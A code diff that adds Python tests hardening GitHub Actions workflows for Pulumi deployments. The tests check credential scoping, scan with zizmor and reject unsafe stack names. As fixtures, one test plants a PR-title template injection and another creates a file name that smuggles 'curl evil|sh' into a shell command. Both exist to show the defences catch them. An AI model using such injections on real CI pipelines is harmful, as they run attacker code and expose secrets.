@@ -125,3 +125,69 @@ def test_merges_deploy_dev_then_prod_behind_an_approval_and_drift_is_checked_nig
     assert job["strategy"]["matrix"]["stack"] == "${{ fromJSON(needs.stacks.outputs.list) }}"
     (check,) = [s for s in _steps(job) if s.get("uses", "").startswith("pulumi/actions@")]
     assert check["with"]["refresh"] is True and check["with"]["expect-no-changes"] is True
+
+
+# ------------------------------------------------------------------ issue 27: credentials
+
+def _zizmor(path: Path) -> list[dict[str, Any]]:
+    """zizmor (pinned in requirements-dev.txt), offline, default persona: its findings as JSON."""
+    import shutil
+    import sys
+
+    exe = shutil.which("zizmor", path=str(Path(sys.executable).parent)) or shutil.which("zizmor")
+    assert exe, "zizmor is not installed (requirements-dev.txt pins it)"
+    run = subprocess.run([exe, "--offline", "--format", "json", "--no-progress", str(path)], capture_output=True,
+                         text=True, timeout=120)
+    assert run.returncode in (0, 11, 12, 13, 14), run.stderr  # 1x: findings of that severity
+    return list(json.loads(run.stdout))
+
+
+def test_zizmor_finds_nothing_unexplained_and_catches_an_injection(tmp_path: Path) -> None:
+    """Clean, or ignored inline with the reason next to it; a copy of the preview that
+    interpolates a PR title into a script and inherits every secret is caught."""
+    assert _zizmor(WORKFLOWS) == []
+    for path in WORKFLOWS.glob("*.yml"):
+        for line in path.read_text().splitlines():
+            if "zizmor: ignore" in line:
+                assert re.search(r"zizmor: ignore\[[a-z-]+\] \S.{20,}", line), (path.name, line)
+    hostile = tmp_path / "workflows"
+    hostile.mkdir()
+    text = (WORKFLOWS / "preview.yml").read_text().replace(
+        "        run: |\n          make venv\n",
+        "        run: |\n          echo \"${{ github.event.pull_request.title }}\"\n          make venv\n", 1)
+    (hostile / "preview.yml").write_text(text)
+    assert {f["ident"] for f in _zizmor(hostile / "preview.yml")} >= {"template-injection"}
+
+
+def test_credentials_stay_scoped_read_only_and_named() -> None:
+    """Previews and drift checks run inside the `preview` environment (read-only keys); no
+    checkout leaves its token in .git/config; reusable-workflow calls pass secrets by name; no
+    `${{ }}` expression is interpolated into a script (values reach scripts through env)."""
+    for name in ("preview.yml", "drift.yml"):
+        job = _load(name)["jobs"]["preview" if name == "preview.yml" else "drift"]
+        assert job["environment"] == "preview"
+        env = next(s for s in _steps(job) if s.get("uses", "").startswith("pulumi/actions@"))["env"]
+        assert all("PREVIEW" in v for k, v in env.items()), env
+    declared = set(_load("pulumi-up.yml")["on"]["workflow_call"]["secrets"])
+    for path in WORKFLOWS.glob("*.yml"):
+        assert "secrets: inherit" not in path.read_text(), path.name
+        for job_name, job in _load(path.name)["jobs"].items():
+            if "uses" in job:
+                assert set(job["secrets"]) == declared, (path.name, job_name)
+            for step in _steps(job):
+                if step.get("uses", "").startswith("actions/checkout@"):
+                    assert step["with"]["persist-credentials"] is False, (path.name, job_name)
+                assert "${{" not in step.get("run", ""), (path.name, job_name, step.get("name"))
+
+
+def test_stack_names_from_file_names_are_validated(tmp_path: Path) -> None:
+    """A stack file name becomes a matrix value that reaches commands (through env): the listing
+    step refuses anything but [a-z0-9-]."""
+    (step,) = [s for s in _steps(_load("preview.yml")["jobs"]["stacks"]) if s.get("id") == "list"]
+    command = step["run"].split(" >> ")[0]
+    (tmp_path / "Pulumi.dev.yaml").write_text("config: {}\n")
+    ok = subprocess.run(command, shell=True, cwd=tmp_path, capture_output=True, text=True)
+    assert ok.returncode == 0 and ok.stdout.strip() == 'list=["dev"]'
+    (tmp_path / 'Pulumi.x";curl evil|sh;".yaml').write_text("config: {}\n")
+    bad = subprocess.run(command, shell=True, cwd=tmp_path, capture_output=True, text=True)
+    assert bad.returncode != 0 and "stack file names must be" in bad.stderr and "list=" not in bad.stdout
